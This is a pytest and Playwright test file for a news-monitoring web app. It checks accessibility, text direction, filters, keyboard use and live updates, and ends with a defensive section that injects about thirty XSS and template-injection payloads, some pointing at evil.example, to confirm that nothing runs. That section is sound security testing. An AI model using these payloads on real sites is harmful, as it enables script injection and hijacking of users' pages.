"""The pages in a real Chromium: reading, filtering, live arrival, keys, both directions, and text that means harm.

The few rules below that say what a screen reader needs are ours; axe-core looks at every page in test_axe.py.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass, replace
from math import inf
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from monitor.config import load
from monitor.desk import Desk
from monitor.web import Site
from storage.records import (
    Act,
    Claim,
    Decision,
    Document,
    Filler,
    Finding,
    Form,
    Judgement,
    Polarity,
    Quantity,
    Status,
)
from storage.store import Store
from tests.browsing import browser, chromium, press, reader, served
from tests.factory import NOW, after, claim, document, finding, seen, statement
from tests.test_web import CONFIG, Health

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

CORPORA = Path(__file__).parents[2] / "shared" / "corpora"
pytestmark = [
    pytest.mark.skipif(chromium() is None, reason="no Chromium is installed: the pages are not tried in a browser"),
    # of a context that is closed while a stream is open, playwright leaves the transport to be collected
    pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning"),
]


@dataclass
class Served:
    """A served store with something on every page."""

    base: str
    store: Store
    made: Finding

    @property
    def pages(self) -> dict[str, str]:
        """Every page by its name."""
        return {
            "wire": "/",
            "finding": f"/findings/{self.made.id}",
            "dispute": f"/disputes/{self.made.cluster}",
            "document": f"/documents/{self.made.claims[0].statement.document}",
            "actors": "/actors",
            "actor": "/actors/front",
            "figures": "/figures",
            "series": "/figures?key=%3Dcasualties%7Cplace%3Akesh&unit=person",
            "sources": "/sources",
            "source": "/sources/front-posts",
            "coverage": "/coverage",
            "review": "/review",
            "quality": "/quality",
            "deliveries": "/deliveries",
        }


PAGES = (
    "wire", "finding", "dispute", "document", "actors", "actor", "figures", "series", "sources", "source", "coverage",
    "review", "quality", "deliveries",
)  # fmt: skip


def dispute(store: Store, number: int, *, kind: str = "denial", of: Document | None = None, **more: Any) -> Finding:
    """One side says it in English, the other denies it in Persian."""
    at = after(minutes=number)
    ours = of or document(f"m{number}", f"Our forces hold Kesh, report {number}.", source="ministry", language="en")
    theirs = document(f"f{number}", f"شهر کش در کنترل ماست، گزارش {number}.")
    roles = (Filler(role="agent", text="our forces", entity="actor:ministry"), Filler(role="place", text="Kesh"))
    one = claim(statement(ours, actor="ministry", principal="ministry"), roles=roles)
    two = claim(statement(theirs), roles=roles, act=Act.DENY, polarity=Polarity.NEGATIVE)
    made = finding(two, one, kind=kind, found_at=at, cluster=f"dispute {number}", **more)
    store.record(replace(seen(ours), at=at), (one.statement,), (one,), lambda _: Decision())
    store.record(replace(seen(theirs), at=at), (two.statement,), (two,), lambda _: Decision(findings=(made,)))
    return made


def figures(store: Store) -> None:
    """Two sides count differently."""
    made: list[Claim] = []
    for actor, low, high in (("ministry", 12.0, inf), ("front", 3.0, 5.0)):
        of = document(f"n {actor}", f"{actor} counts", published_at=after(hours=low), language="ru")
        amount = Quantity(low=low, high=high, unit="person", text="столько")
        one = claim(statement(of, actor=actor), frame="casualties", quantity=amount, keys=("=casualties|place:kesh",))
        made.append(one)
        told = (finding(*made, kind="figures", found_at=NOW, cluster="count"),) if len(made) == 2 else ()
        store.record(seen(of), (one.statement,), (one,), lambda _, told=told: Decision(findings=told))


@pytest.fixture(scope="module")
def chrome() -> Iterator[Browser]:
    with browser() as found:
        yield found


@pytest.fixture
def desk(tmp_path: Path) -> Iterator[Served]:
    path = tmp_path / "sources.yaml"
    path.write_text(CONFIG, encoding="utf-8")
    configuration = load(path, environ={})
    store = Store(f"sqlite:///{tmp_path / 'web.db'}")
    store.migrate()
    store.sync_sources(configuration.sources, NOW)
    figures(store)
    made = dispute(store, 1)
    put_to_use, health = Desk.of(configuration), Health()
    site = Site(
        store=store,
        desk=lambda: put_to_use,
        health=lambda: health,
        clock=lambda: after(minutes=30),
        token="the-token",
        hosts=frozenset({"127.0.0.1"}),
    )
    with served(site) as base:
        yield Served(base, store, made)
    store.close()


# --- reading ------------------------------------------------------------------------------------

#: what a reader who does not see, or sees little, trips over; each finding in words
CHECKS = (Path(__file__).parent / "data" / "reading.js").read_text(encoding="utf-8")
WAYS = {
    "light": {},
    "dark": {"color_scheme": "dark"},
    "phone": {"viewport": {"width": 390, "height": 844}},
    "Persian": {"locale": "fa-IR"},
    "wall": {"viewport": {"width": 2560, "height": 1440}},
}


@pytest.mark.parametrize("way", WAYS)
def test_every_page_can_be_read_by_everybody(chrome: Browser, desk: Served, way: str) -> None:
    found: dict[str, list[str]] = {}
    with reader(chrome, desk.base, **WAYS[way]) as (_, page, wrong):
        for name in PAGES:
            assert page.goto(desk.pages[name]).status == 200, name  # type: ignore[union-attr]
            found[name] = page.evaluate(CHECKS)
        assert wrong == []
    assert {name: many for name, many in found.items() if many} == {}


def test_the_rules_for_reading_find_what_they_are_for(chrome: Browser, desk: Served) -> None:
    bad = """<h3>x</h3><input><button></button><a href="/"></a><nav></nav><p id="a"></p><p id="a"></p>
             <p class="bad">pale words</p><div class="far">wide</div>"""
    with reader(chrome, desk.base) as (_, page, _wrong):
        page.goto("/")
        page.evaluate(
            """(bad) => { document.querySelector('main').innerHTML = bad;
            document.querySelector('.bad').style.color = 'rgb(200, 200, 200)';
            document.querySelector('.far').style.width = '4000px'; }""",
            bad,
        )
        found = page.evaluate(CHECKS)
    for words in (
        "0 of h1",
        "skips to H3",
        "no label",
        "no name: <button",
        "no name: <NAV",
        "twice: #a",
        "contrast",
        "wider",
    ):
        assert any(words in one for one in found), words


def test_a_finding_can_be_read_without_javascript(chrome: Browser, desk: Served) -> None:
    with reader(chrome, desk.base, java_script_enabled=False) as (_, page, wrong):
        page.goto("/")
        assert page.locator("article").count() == 2
        press(page, "article >> nth=0 >> h2 a")
        assert page.locator("blockquote mark").count() == 2
        press(page, "text=our copy, with its versions >> nth=0")
        assert page.locator(".original mark").count() == 1
        assert wrong == []


def test_each_script_keeps_its_own_direction_on_a_mixed_page(chrome: Browser, desk: Served) -> None:
    directions = "() => [...document.querySelectorAll('blockquote')].map((one) => getComputedStyle(one).direction)"
    for locale, whole in (("en-GB", "ltr"), ("fa-IR", "rtl")):
        with reader(chrome, desk.base, locale=locale) as (_, page, _wrong):
            page.goto(desk.pages["finding"])
            assert page.evaluate("getComputedStyle(document.body).direction") == whole
            assert page.evaluate(directions) == ["rtl", "ltr"]
            sides = page.locator(".facing .side").evaluate_all(
                "(all) => all.map((one) => one.getBoundingClientRect().x)"
            )
            assert (sides[0] < sides[1]) is (whole == "ltr")  # the newer side stands where reading begins
            time = page.locator(".facts time").first
            assert time.evaluate("(one) => getComputedStyle(one).direction") == "ltr"


# --- choosing, keys -----------------------------------------------------------------------------


def test_filters_stand_in_the_address_and_in_the_form(chrome: Browser, desk: Served) -> None:
    dispute(desk.store, 2, kind="contradiction")
    with reader(chrome, desk.base) as (_, page, wrong):
        page.goto("/")
        assert page.locator("article").count() == 3
        page.click("summary")
        page.select_option("select[name=kind]", "contradiction")
        press(page, ".filters button")
        assert "kind=contradiction" in page.url
        assert page.locator("article").count() == 1
        assert page.locator("select[name=kind]").input_value() == "contradiction"
        page.go_back()
        assert page.locator("article").count() == 3
        assert wrong == []


def test_the_wire_is_read_with_keys_alone(chrome: Browser, desk: Served) -> None:
    with reader(chrome, desk.base) as (_, page, wrong):
        page.goto("/")
        page.keyboard.press("Tab")
        assert page.evaluate("document.activeElement.className") == "skip"
        page.keyboard.press("Enter")
        page.keyboard.press("j")
        page.keyboard.press("j")
        page.keyboard.press("k")
        first = page.locator("article >> nth=0 >> h2 a").get_attribute("href")
        assert page.evaluate("document.activeElement.getAttribute('href')") == first
        page.keyboard.press("Enter")
        page.wait_for_url(f"**{first}")
        page.go_back()
        page.keyboard.press("f")
        assert page.evaluate("document.activeElement.tagName") == "SELECT"
        page.keyboard.press("j")  # in a field, a letter is a letter
        assert page.evaluate("document.activeElement.tagName") == "SELECT"
        assert wrong == []


# --- live ---------------------------------------------------------------------------------------


def test_a_finding_arrives_while_the_page_is_open(chrome: Browser, desk: Served) -> None:
    with reader(chrome, desk.base) as (_, page, wrong):
        page.goto("/")
        page.wait_for_selector(".live.on")
        made = dispute(desk.store, 31, kind="contradiction")
        page.wait_for_selector(f"#list a[href='/findings/{made.id}']", timeout=10_000)
        assert page.locator("article.fresh").count() == 1
        assert wrong == []


def test_what_arrives_does_not_move_what_is_being_read(chrome: Browser, desk: Served) -> None:
    for number in range(2, 9):
        dispute(desk.store, number)
    with reader(chrome, desk.base) as (_, page, wrong):
        page.goto("/")
        page.wait_for_selector(".live.on")
        page.evaluate("window.scrollTo(0, 600)")
        before = page.locator("article").count()
        dispute(desk.store, 32)
        button = page.locator("[data-arrived] button")
        button.wait_for(timeout=10_000)
        assert button.text_content() == "1 new - show"
        assert page.title().startswith("(1) ")
        assert page.locator("article").count() == before
        page.keyboard.press("n")
        page.locator("article").nth(before).wait_for()
        assert not page.title().startswith("(")
        assert wrong == []


def test_what_does_not_fit_the_filters_does_not_arrive(chrome: Browser, desk: Served) -> None:
    with reader(chrome, desk.base) as (_, page, wrong):
        page.goto("/?kind=contradiction")
        page.wait_for_selector(".live.on")
        dispute(desk.store, 33, kind="denial")
        made = dispute(desk.store, 34, kind="contradiction")
        page.wait_for_selector(f"#list a[href='/findings/{made.id}']", timeout=10_000)
        assert page.locator("article").count() == 1
        assert wrong == []


def test_sound_is_off_until_somebody_wants_it_and_stays_chosen(chrome: Browser, desk: Served) -> None:
    with reader(chrome, desk.base) as (_, page, wrong):
        page.goto("/")
        page.wait_for_selector(".live.on")
        assert not page.is_checked("[data-sound]")
        page.check("[data-sound]")
        page.reload()
        page.wait_for_selector(".live.on")
        assert page.is_checked("[data-sound]")
        assert wrong == []


# --- text that means harm -----------------------------------------------------------------------

PAYLOADS = (
    "<script>alert(1)</script>",
    "</textarea></title></style><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>",
    "'><svg/onload=alert(1)>",
    "\" autofocus onfocus=alert(1) x=\"",
    "javascript:alert(1)",
    "jAvAsCrIpT:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "{{ 7 * 7 }}{% for x in y %}",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}`alert(1)`",
    "--><!-- <script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;script&#x3E;alert(1)",
    "\u202e<script>alert(1)</script>\u2066",
    "\x00<script>alert(1)</script>",
    "<base href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button formaction=javascript:alert(1) autofocus>",
    "<link rel=stylesheet href=//evil.example/x.css><style>*{display:none}</style>",
    "<div hx-get=//evil.example hx-trigger=load hx-on:click=alert(1)>",
    "<p style=position:fixed;inset:0 onclick=alert(1)>",
    "<object data=javascript:alert(1)><embed src=javascript:alert(1)>",
    "<x:script xmlns:x=http://www.w3.org/1999/xhtml>alert(1)</x:script>",
    "＜script＞alert(1)＜/script＞",
)  # fmt: skip


def collected() -> list[str]:
    """What others collected, beside the project."""
    found: list[str] = []
    lists = {"dompurify/expect.json": lambda one: one["payload"], "blns/blns.json": str}
    for name, text in lists.items():
        path = CORPORA / name
        if path.exists():
            found += [text(one) for one in json.loads(path.read_text(encoding="utf-8"))]
    return [one for one in found if one.encode("utf-8", "ignore").decode() == one]


def harmful(store: Store, number: int, text: str) -> Finding:
    """A finding in which everything that comes from outside is the given text."""
    of = document(
        f"{number} {text}"[:400], text, title=text[:300], author=text, url=text[:300], cautions=(text,), language="en"
    )
    roles = (Filler(role="agent", text=text, entity=text), Filler(role="place", text=text))
    said = statement(of, speaker=text, cue=text, chain=(text,), form=Form.INDIRECT, language=text[:20] or "und")
    amount = Quantity(low=1, high=2, unit=text[:50], text=text)
    one = claim(said, roles=roles, condition=text, quantity=amount, frame="casualties", keys=(f"=casualties|{number}",))
    told = {"because": (text, text), "cautions": (text,), "rule": text, "cluster": f"c{number}"}
    made = finding(one, one, kind="figures", found_at=after(minutes=number), **told)
    store.record(seen(of), (said,), (one,), lambda _: Decision(findings=(made,)))
    judged = Judgement(finding=made.id, status=Status.CONFIRMED, by=text[:99] or "x", why=text, at=NOW)
    from alerts import outbox

    outbox.judge(store, judged)
    return made


def unharmed(page: Page, wrong: list[str], where: str) -> None:
    """Nothing ran, nothing was asked for or blocked, nothing of theirs became an element."""
    assert page.evaluate("window.ran") == 0, where
    assert page.evaluate("document.querySelectorAll(\"script:not([src^='/static/'])\").length") == 0, where
    own = "svg, svg *, iframe, object, embed, base, style, math, form[action^='//'], [onerror], [onload], [hx-get]"
    theirs = page.evaluate(
        """(own) => [...document.querySelectorAll(own)]
        .filter((one) => !one.closest('svg[class], .legend svg, .key svg, .interval svg'))
        .map((one) => one.outerHTML.slice(0, 80))""",
        own,
    )
    assert theirs == [], where
    assert wrong == [], where


@pytest.mark.parametrize("at", range(3))
def test_harmful_text_runs_nothing_on_any_page(chrome: Browser, desk: Served, at: int) -> None:
    some = PAYLOADS[at * 10 : at * 10 + 10]
    made = [harmful(desk.store, number, text) for number, text in enumerate(some, 40)]
    with reader(chrome, desk.base) as (_, page, wrong):
        for one in made:
            pages = {**replace(desk, made=one).pages, "series": f"/figures?key=%3D{one.claims[0].keys[0][1:]}"}
            for name in ("finding", "dispute", "document"):
                page.goto(pages[name])
                unharmed(page, wrong, f"{name}: {one.because[0]!r}")
        for name in ("wire", "actors", "actor", "figures", "source", "sources", "coverage", "quality", "review"):
            page.goto(desk.pages[name])
            unharmed(page, wrong, f"{name}: {some!r}")


@pytest.mark.shared
@pytest.mark.slow
def test_what_others_collected_runs_nothing(chrome: Browser, desk: Served) -> None:
    texts = collected()
    if not texts:
        pytest.skip("the collected payloads are not beside the project: ../shared/corpora")
    size = 40
    batches = [texts[at : at + size] for at in range(0, len(texts), size)]
    made = [harmful(desk.store, number, "\n".join(some)) for number, some in enumerate(batches, 40)]
    with reader(chrome, desk.base) as (_, page, wrong):
        for one in made:
            for name in ("finding", "document"):
                page.goto(replace(desk, made=one).pages[name])
                unharmed(page, wrong, f"{name} {one.cluster}")
        for name in ("wire", "actor", "figures", "source", "quality"):
            page.goto(desk.pages[name])
            unharmed(page, wrong, name)
